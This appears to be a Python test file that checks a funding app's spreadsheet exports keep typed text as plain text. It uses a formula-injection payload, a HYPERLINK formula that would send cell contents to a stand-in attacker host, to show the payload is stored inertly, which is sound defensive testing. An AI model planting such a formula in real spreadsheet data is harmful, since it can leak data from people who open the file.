"""Text a person typed stays text in every spreadsheet the product writes: a description beginning
with "=" is not run as a formula when the office opens the export, nor is a web address made a link."""

import io
import zipfile
from datetime import date
from decimal import Decimal

from python_calamine import CalamineWorkbook

from communityedu.core.spreadsheets import new_workbook
from communityedu.funding import services
from communityedu.funding.exports import funding_year_xlsx
from communityedu.funding.selectors import funding_year
from communityedu.metrics.funding_figure import town_finance_per_capita

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_the_workbook_keeps_typed_text_as_text():
    buffer = io.BytesIO()
    workbook = new_workbook(buffer)
    sheet = workbook.add_worksheet()
    sheet.write(0, 0, FORMULA)
    sheet.write(0, 1, "http://evil.example/")
    workbook.close()

    assert "<f>" not in _sheet_xml(buffer.getvalue())
    assert "<hyperlink" not in _sheet_xml(buffer.getvalue())
    rows = CalamineWorkbook.from_filelike(io.BytesIO(buffer.getvalue())).get_sheet_by_index(0).to_python()
    assert rows == [[FORMULA, "http://evil.example/"]]


def test_a_funding_description_that_looks_like_a_formula_is_exported_as_text(world):
    services.record_allocation(
        town=world.xinmiao,
        year=2020,
        source="town_finance",
        amount=Decimal("100.00"),
        dated_on=date(2020, 3, 1),
        actor=world.accounts["office"],
        description=FORMULA,
    )

    figure = town_finance_per_capita(town=world.xinmiao, year=2020)
    content = funding_year_xlsx(funding_year(town=world.xinmiao, year=2020, figure=figure))

    assert "<f>" not in _sheet_xml(content)
    cells = [
        cell
        for row in CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
        for cell in row
    ]
    assert FORMULA in cells
